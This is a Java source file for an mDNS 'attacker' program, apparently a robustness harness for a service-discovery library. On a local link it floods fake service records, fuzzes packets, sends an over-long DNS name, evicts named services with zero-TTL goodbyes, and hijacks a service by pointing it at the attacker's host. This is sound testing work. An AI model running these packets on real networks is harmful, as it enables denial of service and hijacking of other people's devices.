package dev.earshot.discovery.mdns;

import dev.earshot.Payload;
import dev.earshot.ServiceType;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.MulticastSocket;
import java.net.NetworkInterface;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * A program that means ill: sends what it is told to the multicast group of a link, from port 5353
 * of an address. Arguments: service type, link, address, and what to send.
 */
final class MdnsAttacker implements AutoCloseable {
  private static final InetSocketAddress GROUP = new InetSocketAddress("224.0.0.251", 5353);

  private final MulticastSocket socket;
  private final DnsName type;
  private final DnsName host = ServiceNames.ofHost("attacker");
  private final Random random = new Random(1);

  private MdnsAttacker(String type, String link, String address) throws IOException {
    this.type = ServiceNames.of(ServiceType.parse(type));
    socket = new MulticastSocket(null);
    socket.setReuseAddress(true);
    socket.bind(new InetSocketAddress(InetAddress.getByName(address), 5353));
    socket.setNetworkInterface(NetworkInterface.getByName(link));
  }

  /** Sends, and ends. */
  public static void main(String[] arguments) throws Exception {
    try (MdnsAttacker attacker = new MdnsAttacker(arguments[0], arguments[1], arguments[2])) {
      switch (arguments[3]) {
        case "flood" -> attacker.flood(10_000);
        case "fuzz" -> attacker.fuzz(20_000);
        case "names" -> attacker.names();
        case "goodbye" -> attacker.sayGoodbyeFor(arguments[4]);
        case "takeover" -> attacker.takeOver(arguments[4]);
        default -> throw new IllegalArgumentException(arguments[3]);
      }
    }
  }

  /** Services that do not exist. */
  private void flood(int count) throws IOException {
    for (int i = 0; i < count; i++) {
      DnsName fake = type.under("fake " + i);
      send(DnsRecord.pointer(type, 4_500, fake), server(fake, 4_500), text(fake, 4_500));
    }
  }

  /** Good packets with a few bytes changed, and random ones. */
  private void fuzz(int count) throws IOException {
    DnsName fake = type.under("fuzzed");
    byte[] good =
        DnsWriter.write(
            DnsMessage.response(
                List.of(DnsRecord.pointer(type, 120, fake), server(fake, 120), text(fake, 120))));
    for (int i = 0; i < count; i++) {
      byte[] bytes = good.clone();
      for (int changes = random.nextInt(6); changes >= 0; changes--) {
        bytes[random.nextInt(bytes.length)] = (byte) random.nextInt();
      }
      if (i % 4 == 0) {
        bytes = new byte[random.nextInt(200)];
        random.nextBytes(bytes);
      }
      transmit(bytes);
    }
  }

  /** A pointer to a name of thirty labels of 63 bytes, longer than any name may be. */
  private void names() throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    byte[] head = DnsWriter.write(DnsMessage.response(List.of(DnsRecord.pointer(type, 120, type))));
    bytes.write(head, 0, head.length - 4); // without length and pointer of the data
    int length = 30 * 64 + 1;
    bytes.write(length >> 8);
    bytes.write(length);
    for (int i = 0; i < 30; i++) {
      bytes.write(63);
      bytes.write("x".repeat(63).getBytes(java.nio.charset.StandardCharsets.US_ASCII));
    }
    bytes.write(0);
    transmit(bytes.toByteArray());
  }

  private void sayGoodbyeFor(String name) throws IOException {
    DnsName victim = type.under(name);
    send(DnsRecord.pointer(type, 0, victim));
  }

  /** Says that the service is here, not there. */
  private void takeOver(String name) throws IOException {
    send(server(type.under(name), 120));
  }

  private DnsRecord server(DnsName name, long seconds) {
    return new DnsRecord(
        name, DnsRecord.SRV, true, seconds, new DnsRecord.Server(0, 0, 6666, host));
  }

  private static DnsRecord text(DnsName name, long seconds) {
    DnsRecord.Text text = new DnsRecord.Text(Payload.utf8("\003a=b"));
    return new DnsRecord(name, DnsRecord.TXT, true, seconds, text);
  }

  private void send(DnsRecord... records) throws IOException {
    transmit(DnsWriter.write(DnsMessage.response(new ArrayList<>(List.of(records)))));
  }

  private void transmit(byte[] bytes) throws IOException {
    socket.send(new DatagramPacket(bytes, bytes.length, GROUP));
  }

  @Override
  public void close() {
    socket.close();
  }
}
